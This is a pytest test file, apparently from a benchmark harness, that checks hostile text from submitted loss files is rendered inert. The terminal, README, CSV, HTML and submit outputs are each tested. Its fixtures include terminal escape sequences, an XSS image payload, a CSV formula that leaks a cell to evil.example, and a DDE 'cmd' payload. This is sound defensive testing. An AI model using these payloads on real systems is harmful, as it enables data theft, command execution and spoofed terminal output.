"""Loss-made text reaches every sink inert: terminal (check, bench, runs, leaderboard, submit), the
board's README.md, leaderboard.csv and index.html (issue 18, item 8).

The hostile text is the one tests/sandbox_attacks/terminal_escape.py raises; here it is handed to the
trusted side as the sandbox reports it (the jail tier, test_loss_text_jail.py, runs the file itself).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_leaderboard_records import SUITE_HASH, VERIFIED, make_record

from harness.checks import CheckReport
from harness.cli import main
from harness.leaderboard.board import build_board
from harness.leaderboard.publish import submit_record
from harness.leaderboard.render_md import render_readme, render_table
from harness.store import RunStore

ATTACK = Path(__file__).parent / "sandbox_attacks" / "terminal_escape.py"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def attack_message() -> str:
    """The attack file's exception text, read as data (the file is never executed here)."""
    namespace: dict = {}
    source = ATTACK.read_text()
    head = source[: source.index("\ndef loss")]
    exec(compile(head, str(ATTACK), "exec"), namespace)  # only the string constants above `def loss`
    return namespace["MESSAGE"]


def assert_terminal_safe(text: str) -> None:
    assert not CONTROL.search(text), repr(CONTROL.search(text))
    # no line of the output is the fake verdict on its own: it stays inside the quoted error
    assert not any(line.lstrip().startswith("/tmp/loss.py: VALID") for line in text.splitlines())


def hostile_record(name: str = "dpo", **kw) -> dict:
    record = make_record(name, **kw)
    if record["status"] != "ok":
        record["error"] = "Traceback (most recent call last):\n" + attack_message()
    return record


def test_check_report_is_inert(monkeypatch, tmp_path):
    loss = tmp_path / "loss.py"
    loss.write_text("def loss(policy_chosen_logps):\n    return policy_chosen_logps\n")
    report = CheckReport(path=str(loss), name="loss", errors=[f"crash: RuntimeError: {attack_message()}"],
                         warnings=[attack_message()], backend="jail")
    monkeypatch.setattr("harness.checks.check_loss_file", lambda *a, **k: report)
    out = CliRunner().invoke(main, ["check", "--loss", str(loss)])
    assert out.exit_code == 1
    assert out.output.splitlines()[0] == f"{loss}: INVALID"
    assert_terminal_safe(out.output)
    assert "RuntimeError" in out.output and "FILAVNI" in out.output  # the text is shown, inert
    as_json = CliRunner().invoke(main, ["check", "--loss", str(loss), "--json"])
    assert not CONTROL.search(as_json.output)  # json.dumps escapes every control character
    assert json.loads(as_json.output)["errors"] == report.errors


def test_bench_summary_of_a_failed_run_is_inert():
    from harness.report import render_record as render

    record = hostile_record(status="crash")
    record["loss"]["name"] = "\x1b]52;c;eA==\x07evil"
    assert_terminal_safe(render(record))


def test_runs_table_is_inert(tmp_path):
    url = f"sqlite:///{tmp_path / 'runs.sqlite'}"
    record = hostile_record(status="crash")
    record["loss"]["name"] = "\x1b[2K\x1b[1Aevil\x9b2J"
    RunStore(url).add(record)
    out = CliRunner().invoke(main, ["runs", "--store", url])
    assert out.exit_code == 0 and "evil" in out.output
    assert_terminal_safe(out.output)


def hostile_board():
    ok = make_record(FORMULA, 0.7)
    ok["loss"]["name"] = FORMULA + " [x](https://evil.example) <img src=x onerror=alert(1)> |"
    failed = hostile_record("broken", status="crash")
    failed["loss"]["name"] = "![p](https://evil.example/p.png)"
    return ok, failed


def test_board_readme_and_table_are_inert(tmp_path):
    ok, failed = hostile_board()
    submit_record(tmp_path, ok, suite="tiny", expected_hash=SUITE_HASH, verification=VERIFIED)
    submit_record(tmp_path, failed, suite="tiny", expected_hash=SUITE_HASH)
    readme = (tmp_path / "README.md").read_text()
    markdown = pytest.importorskip("markdown_it", reason="markdown-it-py renders the README to check it")
    html = markdown.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(readme)
    links = re.findall(r'<a href="([^"]*)"', html)
    assert links and all(h.startswith(("records/", "failed/", "index.html")) for h in links), links
    assert "<img" not in html and "<script" not in html and "evil.example/p.png" not in "".join(links)
    assert "FILAVNI" in readme and "HYPERLINK" in readme  # the text is there, as text
    assert not CONTROL.search(readme)
    rows = [line for line in readme.splitlines() if line.startswith("|")]
    assert all(line.count(" | ") + line.count("|-") >= 1 for line in rows)
    board = build_board("tiny", SUITE_HASH, [(f"records/{ok['loss']['sha256']}-{SUITE_HASH}.json",
                                              {**ok, "verification": VERIFIED})])
    assert_terminal_safe(render_table(board))
    assert render_readme(board).count("<img") == 0


def test_leaderboard_command_output_is_inert(tmp_path, monkeypatch):
    monkeypatch.setattr("harness.commands.leaderboard.current_suite_hash", lambda suite: SUITE_HASH)
    _, failed = hostile_board()
    submit_record(tmp_path / "tiny", failed, suite="tiny", expected_hash=SUITE_HASH)
    out = CliRunner().invoke(main, ["leaderboard", "--board-dir", str(tmp_path)])
    assert out.exit_code == 0, out.output
    assert_terminal_safe(out.output)
    assert "Failed runs" in out.output


def test_csv_has_no_formula_cell(tmp_path):
    ok, _ = hostile_board()
    ok["provenance"]["git_revision"] = "+cmd|' /C calc'!A0"
    submit_record(tmp_path, ok, suite="tiny", expected_hash=SUITE_HASH, verification=VERIFIED)
    rows = list(csv.DictReader(io.StringIO((tmp_path / "leaderboard.csv").read_text())))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["name"].startswith("'=HYPERLINK") and rows[0]["git_revision"].startswith("'+")
    assert rows[0]["verified"] == "True"


def test_submit_messages_are_inert(tmp_path, monkeypatch):
    import harness.leaderboard.submit as submit_mod

    monkeypatch.setattr(submit_mod, "current_suite_hash", lambda suite: SUITE_HASH)
    monkeypatch.setattr(submit_mod, "behaviour_check", lambda *a, **k: None)
    record = make_record("x", verified=None)
    record["loss"]["name"] = "\x1b[2K\x1b[1Aevil"
    path = tmp_path / "r.json"
    path.write_text(json.dumps(record))
    out = CliRunner().invoke(main, ["submit", "--record", str(path), "--no-rerun", "--board-dir", str(tmp_path / "b"),
                                    "--store", f"sqlite:///{tmp_path / 's.sqlite'}"])
    assert out.exit_code == 0, out.output
    assert "UNVERIFIED" in out.output and "evil" in out.output
    assert_terminal_safe(out.output)


def test_attack_file_is_a_loss_file():
    from harness.lossfile import read_loss_file

    assert read_loss_file(ATTACK)[0].name == "terminal_escape.py"
    assert "\x1b]52;" in attack_message() and "\x1b[1A" in attack_message()
